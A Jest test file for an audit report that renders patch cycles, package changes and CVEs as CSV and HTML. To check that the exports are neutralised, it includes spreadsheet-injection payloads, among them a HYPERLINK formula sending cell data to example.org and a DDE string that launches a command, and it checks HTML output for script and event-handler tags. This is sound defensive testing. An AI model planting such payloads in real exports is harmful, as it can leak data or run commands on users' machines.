import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import type { Audit } from '../../../src/report/audit/audit.ts';
import { auditCsv } from '../../../src/report/audit/csv.ts';
import { entryOf, entryWithoutReport, type AuditEntry } from '../../../src/report/audit/entry.ts';
import { auditHtml } from '../../../src/report/audit/html.ts';
import { HOSTILE, reportFullOf } from '../hostile.ts';
import { FAILED, PATCHED, REJECTED, RESTORED, SAMPLES } from '../samples.ts';

function auditOf(entries: AuditEntry[], notes: string[] = []): Audit {
  return {
    since: '2026-10-01T00:00:00.000Z',
    host: null,
    madeAt: '2026-11-28T00:00:00.000Z',
    store: '/srv/reports',
    notes,
    entries,
  };
}

function rowsOf(audit: Audit): Record<string, string>[] {
  return parse<Record<string, string>>(auditCsv(audit), {
    columns: true,
    record_delimiter: '\r\n',
  });
}

describe('an entry of the audit', () => {
  it('tells of a patched host what changed, with its CVEs, and on whose word', () => {
    const entry = entryOf(PATCHED, 'store');
    expect(entry).toMatchObject({
      host: 'db-1',
      outcome: 'patched',
      installed: true,
      changeCount: 24,
    });
    expect(entry.changes).toContainEqual({
      package: 'openssl',
      from: '3.0.20-1~deb12u2',
      to: '3.0.22-1~deb12u2',
      security: true,
    });
    expect(entry.cves).toContain('CVE-2025-15467');
    expect(entry.cvesUnknown).toBeGreaterThan(0);
    expect(entry.approvedBy).toMatch(/^bob@example\.org at 2026-11-24T19:12:40/);
    expect(entry.decisions[0]).toMatch(/^2026-.*Z: bob@example\.org approved the plan/);
    expect(entry.issues.join('\n')).toMatch(/configuration left aside: \/etc\/nginx/);
  });

  it('tells what went wrong, and that nothing is installed then', () => {
    for (const report of [FAILED, RESTORED]) {
      const entry = entryOf(report, 'store');
      expect(entry.installed).toBe(false);
      expect(entry.issues[0]).toMatch(/^[A-Z][A-Za-z]+: ./);
    }
    expect(entryOf(REJECTED, 'store').decisions.at(-1)).toMatch(/rejected the plan/);
  });
});

describe('the audit as CSV', () => {
  it('has one line for every cycle, which another program reads back', () => {
    const entries = Object.values(SAMPLES).map((report) => entryOf(report, 'store'));
    const rows = rowsOf(auditOf(entries));
    expect(rows.map(({ host }) => host)).toEqual(entries.map(({ host }) => host));
    const patched = rows.find(({ outcome }) => outcome === 'patched');
    expect(patched?.['began (UTC)']).toMatch(/^2026-11-24 \d\d:\d\d:\d\d$/);
    expect(patched?.['changes']?.split('\n')).toHaveLength(24);
    expect(patched?.['CVEs']?.split(' ')).toContain('CVE-2025-15467');
  });

  it.each(
    Object.entries({
      ...HOSTILE,
      'a formula': '=HYPERLINK("http://example.org/?"&A1)',
      'a command': "@SUM(1+1)*cmd|'/C calc'!A0",
      'a formula behind a separator of another language': 'x;=1+1;-2',
      'a formula behind a quote': '";=1+1;"',
      'a formula behind white space': ' \t+1',
      'a formula in other letters': '＝1+1',
    }),
  )('holds nothing that a spreadsheet would act on: %s', (_, text) => {
    const csv = auditCsv(auditOf([entryOf(reportFullOf(text), 'store')]));
    for (const separator of [',', ';', '\t', '|']) {
      for (const line of csv.split(/\r?\n/)) {
        for (const cell of line.split(separator)) {
          expect(cell.replace(/^["\s]+/, '')).not.toMatch(/^[=+\-@＝＋－＠]/);
        }
      }
    }
    expect(rowsOf(auditOf([entryOf(reportFullOf(text), 'store')]))).toHaveLength(1);
  });

  it('keeps its columns, whatever the texts are', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const entry = entryWithoutReport({
          host: text,
          startedAt: '2026-11-24T18:43:00.000Z',
          endedAt: null,
          outcome: 'running',
          explanation: text,
          issues: [text, text],
          source: 'temporal',
        });
        const [row] = rowsOf(auditOf([entry]));
        expect(row).toMatchObject({ outcome: 'running', source: 'temporal', packages: '0' });
      }),
      { numRuns: 500 },
    );
  });
});

describe('the audit as HTML', () => {
  it('tells each cycle, and what a reader has to know of the whole', () => {
    const page = auditHtml(auditOf([entryOf(PATCHED, 'store')], ['Something is missing.']));
    expect(page).toContain('Something is missing.');
    expect(page).toContain('CVE-2025-15467');
    expect(page).toContain("default-src 'none'");
  });

  it.each(Object.entries(HOSTILE))('shows %s and does not act on it', (_, text) => {
    const page = auditHtml(auditOf([entryOf(reportFullOf(text), 'store')], [text]));
    expect(page).not.toMatch(/<(?:script|img|link|iframe)\b|<b>|javascript:alert\(1\)"/i);
    expect(page.match(/<style>/g)).toHaveLength(1);
    expect(page).not.toMatch(/<[^>]* on(?:load|click)=/);
  });
});
